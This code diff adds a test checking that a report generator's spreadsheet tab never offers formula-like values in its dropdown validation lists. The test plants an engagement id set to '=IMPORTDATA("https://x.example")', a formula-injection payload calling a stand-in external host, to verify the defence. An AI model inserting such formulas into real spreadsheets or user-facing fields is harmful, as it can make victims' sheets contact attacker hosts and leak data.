@@ -154,3 +154,19 @@ test('nothing of another customer is in the tab, nor left over from a review of 
     { numRuns: 5 },
   );
 }, 120_000);
+
+test('an engagement whose id would be a formula is in no list of the tab', async () => {
+  const rows = directoryRows(nordwind(), wordsOf('en'), '2026-06-15');
+  const hostile = { ...rows.engagements![0], id: '=IMPORTDATA("https://x.example")' };
+  const more = { ...rows, engagements: [...rows.engagements!, hostile] };
+  const { terminal, id, book } = await trackerWorld(wantedTracker('en', more, capacityFor(more)));
+  await report(terminal, id, '--period', '2026-06');
+  const checks = reportIn(book()).rows.flatMap((row) =>
+    (row ?? []).flatMap((cell) => cell?.dataValidation ?? []),
+  );
+  const offered = checks
+    .flatMap(({ condition }) => condition?.values ?? [])
+    .map((value) => value.userEnteredValue);
+  expect(offered).toContain('E-1');
+  expect(offered.filter((text) => /^[=+]/.test(text ?? ''))).toEqual([]);
+});
